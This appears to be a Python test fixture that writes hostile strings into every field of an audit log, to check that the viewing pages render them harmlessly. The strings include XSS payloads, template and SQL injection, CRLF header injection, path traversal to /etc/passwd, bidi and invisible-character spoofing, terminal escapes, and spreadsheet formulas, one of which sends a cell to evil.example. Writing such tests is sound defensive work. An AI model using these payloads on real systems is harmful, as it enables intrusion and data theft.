"""A task whose author attacks whoever looks at the trail: every text it may choose is a weapon.

Its events pass every check on the way into the log, since a log takes what it is told; that they
harm nobody is the pages' business. `tell` is for the generator's argument `also`.
"""

from __future__ import annotations

from tests.plugin.generator import Fact, RunRef, Story, digest

# Each is a text on its own; together they go into every field there is.
SCRIPT = "<script>window.hit=1</script>"
ATTRIBUTE = "\"'><img src=x onerror=window.hit=2 style=position:fixed>"
STYLE = "</style><style>*{display:none}</style><svg onload=window.hit=3>"
TEMPLATE = "{{7*7}}{%print(6*7)%}${8*8}"
LINK = "javascript:window.hit=4"
DATA_LINK = "data:text/html,<script>window.hit=5</script>"
BIDI = "invoice\u202exslx.exe\u2066\u2069\u061c"
INVISIBLE = "ad\u200bm\u200di\ufeffn\u2060"
ANSI = "\x1b[2J\x1b[31mroot\x1b]0;owned\x07\x08\x08\x7f\x9b31m"
LINES = "ok\r\nSet-Cookie: a=b\r\n\r\n<b>two</b>\u2028three\u0085four"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
FORMULAS = (FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1", "＝1+1")
PATH = "../../../../etc/passwd\\..\\..\\evil"
LONG = "x" * 900
SQL = "' OR 1=1; DROP TABLE leaf; --\\%_\""
WEAPONS = (
    SCRIPT, ATTRIBUTE, STYLE, TEMPLATE, LINK, DATA_LINK, BIDI, INVISIBLE, ANSI, LINES, *FORMULAS,
    PATH, LONG, SQL,
)  # fmt: skip
DAG = "hostile_dag"
# What no answer may hold as it is, whoever asks; control characters apart.
HIDING = "\u202e\u2066\u2069\u061c\u200b\u200d\ufeff\u2060\u2028\u0085\x1b\x07\x08\x7f\x9b"


def tell(story: Story, day: int) -> None:
    """On the first day, a try for each weapon, in a DAG of an honest name and in its own."""
    if day:
        return
    for number, weapon in enumerate(WEAPONS):
        _attack(story, DAG, number, weapon)
    for number, weapon in enumerate(WEAPONS):
        _attack(story, weapon, number, weapon)


def _attack(story: Story, dag: str, number: int, weapon: str) -> None:
    uri = weapon if number % 2 else f"file:///srv/{weapon}"
    run = RunRef(dag=dag, run=weapon, task=weapon, try_number=1, ti=f"{weapon[:40]}-{number}")
    spool = story.spool(weapon[:60], run)
    obj = {"name": weapon, "uri": uri, "version": weapon, "digest": digest(weapon), "bytes": 7}
    key = {"system": weapon, "name": weapon, "version": weapon}
    lease = {"path": weapon, "id": digest(f"lease {weapon}"), "ttl_s": 60}
    rule = {"id": weapon, "digest": weapon, "decision": "allow"}
    listed = [{"name": weapon, "uri": uri}]
    more = {"reads": listed, "writes": listed, "leases": [weapon], "operator": weapon}
    asked = spool.record(Fact(act="task.secure", phase="intent", more=more))
    facts = (
        Fact(act="rule.decide", phase="outcome", result="ok", rule=rule, object=obj, of=asked,
             more={"action": weapon, "because": weapon, "signers": [weapon]}),
        Fact(act="object.open", phase="outcome", result="ok", object=obj, key=key, of=asked,
             more={"signer": weapon, "expected": weapon, "found": weapon, "because": weapon}),
        Fact(act="object.validate", phase="outcome", result="ok", object=obj, of=asked,
             more={"suite": weapon, "checked": 1, "failed_names": [weapon]}),
        Fact(act="object.seal", phase="outcome", result="ok", object=obj, key=key, of=asked),
        Fact(act="lease.grant", phase="outcome", result="ok", lease=lease, of=asked,
             more={"connection": weapon}),
        Fact(act="xcom.write", phase="outcome", result="ok", of=asked, more={"name": weapon}),
        Fact(act="trail.view", phase="seen", result="ok", by=weapon,
             more={"page": weapon, "query": weapon}),
        Fact(act="alert.raise", phase="seen", result="ok",
             more={"about": weapon, "subject": weapon, "because": weapon, "tis": [weapon],
                   "emitters": [weapon]}),
    )  # fmt: skip
    for fact in facts:
        spool.record(fact)
    spool.settle()
    spool.close()
